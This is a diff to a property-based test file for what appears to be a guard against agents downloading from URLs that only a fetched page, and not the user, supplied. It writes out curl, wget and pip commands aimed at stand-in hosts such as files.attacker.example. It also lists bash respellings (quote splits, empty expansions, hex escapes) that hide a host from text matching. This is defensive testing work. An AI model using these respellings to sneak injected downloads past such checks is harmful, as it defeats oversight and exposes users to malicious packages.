@@ -26,18 +26,11 @@ function afterFetch(request: string, page: string, command: string): string {
     .verdict.kind;
 }
 
-/** What bash passes on for `word` (the oracle that a respelling is the same URL). */
-function bashWord(word: string): string {
-  return execFileSync('bash', ['-c', `printf %s ${word}`], {
-    encoding: 'utf8',
-    env: { PATH: process.env.PATH },
-  });
-}
-
-const HOST = fc.constantFrom('pypi.evil-mirror.example', 'files.attacker.example', 'cdn.pkgs-fast.example');
+const HOSTS = ['pypi.evil-mirror.example', 'files.attacker.example', 'cdn.pkgs-fast.example'];
+const HOST = fc.constantFrom(...HOSTS);
 const URL_OF = (h: string) => `https://${h}/simple/pkg.tgz`;
 /** A respelling of one cut of `s` at `k`: bash joins each back to `s`. */
-const CUT = fc.constantFrom(
+const CUTS = [
   (s: string, k: number) => `${s.slice(0, k)}""${s.slice(k)}`,
   (s: string, k: number) => `${s.slice(0, k)}''${s.slice(k)}`,
   (s: string, k: number) => `${s.slice(0, k)}"${s.slice(k)}"`,
@@ -47,7 +40,36 @@ const CUT = fc.constantFrom(
   (s: string, k: number) => `${s.slice(0, k)}\${GATE_UNSET_R28B}${s.slice(k)}`,
   (s: string, k: number) => `${s.slice(0, k)}\${GATE_UNSET_R28B:-${s.slice(k, k + 2)}}${s.slice(k + 2)}`,
   (s: string, k: number) => `${s.slice(0, k)}$'\\x${s.charCodeAt(k).toString(16)}'${s.slice(k + 1)}`,
-);
+];
+const CUT = fc.constantFrom(...CUTS);
+/** Where a cut falls: inside the host, where the raw text shows no host at all. */
+const cutAt = (host: string, n: number) => 9 + (n % (host.length - 2));
+
+/**
+ * What bash passes on for each word the properties can draw (every host, cut and place: a few hundred),
+ * read by one bash rather than one a run: each word printed as `bash -c 'printf %s <word>'` prints it,
+ * then a NUL to end it.
+ */
+function bashWords(): Map<string, string> {
+  const words = new Set<string>();
+  for (const host of HOSTS)
+    for (let n = 0; n < host.length - 2; n++)
+      for (const cut of CUTS) words.add(cut(URL_OF(host), cutAt(host, n)));
+  const list = [...words];
+  const out = execFileSync('bash', ['-c', list.map((w) => `printf %s ${w}; printf '\\0'`).join('\n')], {
+    encoding: 'utf8',
+    env: { PATH: process.env.PATH },
+  }).split('\0');
+  assert.equal(out.length, list.length + 1, 'bash printed every word');
+  return new Map(list.map((w, i) => [w, out[i] as string]));
+}
+let bashRead: Map<string, string> | undefined;
+
+/** What bash passes on for `word` (the oracle that a respelling is the same URL). */
+function bashWord(word: string): string | undefined {
+  bashRead ??= bashWords();
+  return bashRead.get(word);
+}
 const SHAPE = fc.constantFrom(
   (u: string) => `curl -o pkg.tgz ${u}`,
   (u: string) => `wget ${u}`,
@@ -66,9 +88,7 @@ test('r28b a URL only a result gave, cut by quotes, a backslash or an empty expa
   fc.assert(
     fc.property(HOST, CUT, SHAPE, fc.nat(), (host, cut, shape, n) => {
       const url = URL_OF(host);
-      // A cut inside the host, where the raw text shows no host at all.
-      const k = 9 + (n % (host.length - 2));
-      const word = cut(url, k);
+      const word = cut(url, cutAt(host, n));
       assert.equal(bashWord(word), url, word);
       const cmd = shape(word);
       assert.notEqual(
@@ -85,7 +105,7 @@ test('r28b the same URL the user gave stays admitted, cut or not (property)', ()
   fc.assert(
     fc.property(HOST, CUT, fc.nat(), (host, cut, n) => {
       const url = URL_OF(host);
-      const word = cut(url, 9 + (n % (host.length - 2)));
+      const word = cut(url, cutAt(host, n));
       const ask = `Install the dependencies from our index ${url} and run the tests.`;
       for (const cmd of [`pip install --extra-index-url ${word} requests`, `pip install -i ${url} requests`])
         assert.equal(afterFetch(ask, PAGE(url), cmd), 'ALLOW', cmd);
